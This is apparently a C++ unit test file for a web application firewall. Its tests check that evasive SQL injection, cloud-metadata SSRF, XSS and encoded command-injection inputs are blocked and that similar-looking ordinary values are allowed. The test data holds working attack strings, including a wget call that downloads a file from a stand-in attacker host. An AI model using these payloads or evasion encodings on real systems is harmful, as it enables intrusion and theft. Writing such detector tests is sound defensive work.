// Attack classes the value pipeline (transaction.cc) used to hide from the detectors: SQL
// made of words alone (catalog and procedure names, '--' comments, words glued by '+'), a URL
// carried in the path, SQL cut by the form parser at an '=' of its own, control characters
// that made a short text pass for binary, commands form-encoded inside JSON or multipart
// values; and the ordinary values of the same shapes that must stay allowed.
#include <gtest/gtest.h>

#include <string>

#include "tests/cnaf/waf/waf_test_util.h"

namespace defender::cnaf::waf {
namespace {

using testing::all;
using testing::Request;

std::string verdict_of(Request r) {
  const Waf waf(all(policy::Mode::prevent));
  const Verdict v = waf.inspect_content(r.view());
  return v.allowed() ? "allow" : v.findings.front().protection;
}

Request get(std::string target) {
  Request r;
  r.target = std::move(target);
  return r;
}

Request form(std::string body) {
  Request r;
  r.post("application/x-www-form-urlencoded", std::move(body));
  return r;
}

TEST(WafGaps, SqlOfWordsAlone) {
  EXPECT_EQ(verdict_of(get("/api/information_schema")), "sqli");
  EXPECT_EQ(verdict_of(get("/s?t=pg_catalog")), "sqli");
  EXPECT_EQ(verdict_of(form("pay=information_schema")), "sqli");
  EXPECT_EQ(verdict_of(get("/items/2+union+all+select+1")), "sqli");
  EXPECT_EQ(verdict_of(get("/items/1+or+1--")), "sqli");
}

TEST(WafGaps, UrlInThePath) {
  EXPECT_EQ(verdict_of(get("/proxy/http://169.254.169.254/latest/meta-data/")), "rfi");
  EXPECT_EQ(verdict_of(get("/fetch/http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F")), "rfi");
}

TEST(WafGaps, SqlCutByTheFormParser) {
  EXPECT_EQ(verdict_of(form("%27admin%27%2C+%271%27=%271%27")), "sqli");
  EXPECT_EQ(verdict_of(get("/login?%27admin%27%2C+%271%27=%271%27")), "sqli");
}

TEST(WafGaps, ControlCharactersDoNotMakeTextBinary) {
  // Three control bytes in a short value once made it "binary", read by no detector.
  EXPECT_EQ(verdict_of(form("c=%01%02%03%3Cscript%3Ealert(1)%3C%2Fscript%3E")), "xss");
  Request j;
  j.post("application/json", R"({"c":"1 union select password from users -- \u0001\u0002\u0003"})");
  EXPECT_EQ(verdict_of(j), "sqli");
  // JavaScript octal escapes decode to control characters: "\27\3B" in a style.
  EXPECT_EQ(verdict_of(get("/s?q=%3Cdiv%20style=%22font-family:'a%5C27%5C3B%20b%5C3Ared%5C3B'%22%3EX%3C/div%3E%20"
                           "%3Cscript%3Ewith(document)write(1)%3C/script%3E")),
            "xss");
  // A URL argument with control characters is a protocol violation before anything else.
  EXPECT_EQ(verdict_of(get("/s?q=%01%02%03%04+1+union+select+password+from+users")), "protocol");
  // File contents that are binary stay unread: "<?" and "#{" occur in random bytes.
  Request m;
  m.post("multipart/form-data; boundary=XyZ",
         std::string("--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n"
                     "Content-Type: application/octet-stream\r\n\r\n") +
             std::string("\x01\x02\x03\x04#{\x05<?=\x06\x07\x08\x09\x0b", 16) + "\r\n--XyZ--\r\n");
  EXPECT_EQ(verdict_of(m), "allow");
}

// A command form-encoded inside a JSON or multipart value, or encoded twice in a query: the
// back end that URL-decodes it reads '+' as a blank ("|getent hosts x"); ordinary encoded text
// stays allowed.
TEST(WafGaps, FormEncodedCommandsInsideOtherBodies) {
  Request j;
  j.post("application/json", R"({"t":"%7Cgetent+hosts+somehost.example.&"})");
  EXPECT_EQ(verdict_of(j), "cmdi");
  Request ju;
  ju.post("application/json", R"({"t":"\u0025\u0037\u0043getent+hosts+x.example"})");
  EXPECT_EQ(verdict_of(ju), "cmdi");
  Request m;
  m.post("multipart/form-data; boundary=XyZ",
         "--XyZ\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n%3Bwget+http%3A%2F%2Fevil.example%2Fx+-O+/tmp/x\r\n--XyZ--\r\n");
  EXPECT_EQ(verdict_of(m), "cmdi");
  for (const char* body : {R"({"q":"caf%C3%A9+cr%C3%A8me"})", R"({"b":"abc%2Bdef%2Bghi%3D%3D"})",
                           R"({"m":"1%2B1+equals+2"})", R"({"s":"rock%26roll+forever"})"}) {
    Request ok;
    ok.post("application/json", body);
    EXPECT_EQ(verdict_of(ok), "allow") << body;
  }
  // Encoded twice in a query or form: "%2B%7C%2Bdir%2Bc%3A%2F" is "+|+dir+c:/".
  EXPECT_EQ(verdict_of(get("/?q=%2B%7C%2Bdir%2Bc%3A%2F")), "cmdi");
  EXPECT_EQ(verdict_of(form("q=%24%26%26dir%2Bc%3A%2F")), "cmdi");
  for (const char* target : {"/?email=john%2Btag%40example.com", "/?lang=c%2B%2B", "/?phone=%2B1-555-0100",
                             "/?b64=aGVsbG8%2Bd29ybGQ%3D", "/?sum=1%2B2%2B3"})
    EXPECT_EQ(verdict_of(get(target)), "allow") << target;
}

TEST(WafGaps, OrdinaryValuesOfTheSameShapes) {
  for (const std::string t : {"/docs/user_guide", "/s?sort=created_at&order=desc", "/s?q=C%2B%2B",
                              "/s?d=2024-01-02", "/s?q=a+b+c", "/web/2020/https://example.com/",
                              "/redirect/https://www.example.org/path/page.html", "/files/my_file-v2.tar.gz",
                              "/s?lang=en_US&tz=Europe%2FParis", "/s?version=1.2.3-rc--1"})
    EXPECT_EQ(verdict_of(get(t)), "allow") << t;
  for (const std::string b : {"first_name=John&last_name=Doe", "q=it%27s+fine&x=1",
                              "name=O%27Brien&city=Dublin"})
    EXPECT_EQ(verdict_of(form(b)), "allow") << b;
}

}  // namespace
}  // namespace defender::cnaf::waf
